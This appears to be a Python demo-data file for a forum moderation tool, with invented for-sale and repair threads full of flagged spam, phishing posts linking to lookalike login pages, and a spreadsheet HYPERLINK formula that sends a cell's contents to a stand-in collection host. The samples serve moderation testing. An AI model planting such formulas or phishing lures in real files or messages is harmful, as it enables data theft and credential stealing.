"""Spam, scams and selling: the flea market, the wave, and what hides behind links."""

from modtui.demo.shapes import Flag, Say, Talk

MARKET = Talk(
    "market",
    "For sale and wanted: November",
    (
        Say(
            "finn",
            "Steel touring frame, 58 cm, a bit of rust, a lot of stories. 80, or swap for a "
            "working dynamo hub.",
        ),
        Say(
            "dana", "Wanted: child seat for a rear rack, for my niece. Any colour that isn't grey."
        ),
        Say(
            "seller",
            "Brand new e-bikes, all models, HALF PRICE this week only!! Buyers must first connect "
            "your wallet at https://spoke-s0lder.example/verify to see the prices.",
            (
                Flag(
                    "finn",
                    "Look at the address: a zero in “s0lder”. It copies our login page.",
                    "scam",
                ),
                Flag("gwen", "phishing", "scam"),
                Flag("olu", "fake login page", "scam"),
            ),
        ),
        Say(
            "gwen",
            "DO NOT CLICK. It asks for your forum password. I have told marie.",
            (Flag("seller", "false statements about an honest business", "other"),),
        ),
        Say(
            "seller",
            "Dear members, ignore the jealous people. To receive the refund verify your wallet "
            "here: https://spoke-solder.example.wallet-check.test/login?u=you",
            (Flag("finn", "again, other link", "scam"),),
        ),
        Say(
            "kit",
            "Selling the pannier set from my last trip, 25 each. Yes I know I posted it last week, "
            "I dropped the price.",
            (Flag("walter", "duplicate post, spam", "spam"),),
        ),
        Say("rowan", "Giving away: two boxes of 26-inch tubes, some patched by a five-year-old."),
        Say(
            "formula",
            '=HYPERLINK("https://sheet.example/collect?x="&A1,"price list for all parts")',
            (Flag("dana", "what is this supposed to be?", "spam"),),
        ),
        Say(
            "alvaro",
            "Selling my bike because I move back home: 200, lights and lock included. Sorry for my "
            "english, and sorry if this is the wrong place, I am new here.",
            (Flag("walter", "New account selling things. Suspicious.", "scam"),),
            language="en",
        ),
    ),
    began=60,
    pace=140,
)

CHARGER = Talk(
    "repair",
    "Which charger for a 36 V battery?",
    (
        Say(
            "heike",
            "My charger died. May I use any 42 V charger, or does it have to be the maker's?",
            language="en",
        ),
        Say(
            "priya",
            "Right voltage (42.0 V), right chemistry, current not above what the label says. "
            "And never unattended the first time.",
        ),
        Say(
            "spam5",
            "I had same problem, my brother in law earns 4000 weekly now, double your crypto in "
            "48 hours, ask me how, no risk, battery also fixed",
            (Flag("olu", "“battery also fixed”, I love it. Spam.", "spam"),),
        ),
        Say(
            "olu",
            "You can buy one at the shop on Dock Street, they are fair: https://dockstreet.example "
            "I don't get anything for saying so.",
            (Flag("walter", "advertising", "spam"),),
        ),
    ),
    began=15,
    pace=40,
)

SPAM_TEXTS = (
    "Cheap meds, no prescription, delivered in plain box! Order now {link}",
    "CHEAP MEDS no prescription needed, delivered in a plain box >> {link}",
    "cheap  meds, n0 prescription, plain box delivery, order today: {link}",
    "Casino bonus 200% for new players, no deposit, only this week {link}",
    "CASINO BONUS: 200% for every new player!!! no deposit {link}",
    "Double your crypto in 48 hours, 100% profit, DM me on telegram {link}",
)
"""The wave: each text is posted by several accounts, in threads where it does not belong."""

SPAM_LINKS = (
    "http://pills4less.example/?a={number}",
    "http://lucky-spin.example/r/{number}",
    "http://t.example/joinchat{number}",
)

SPAM_REPORTS = (
    ("spam", "spam"),
    ("same text in four threads", "spam"),
    ("", "spam"),
    ("Another one. Can we block the domain?", "spam"),
    ("bot?", "spam"),
)

WAVE = 14
"""Posts in the wave."""

TALKS = (MARKET, CHARGER)
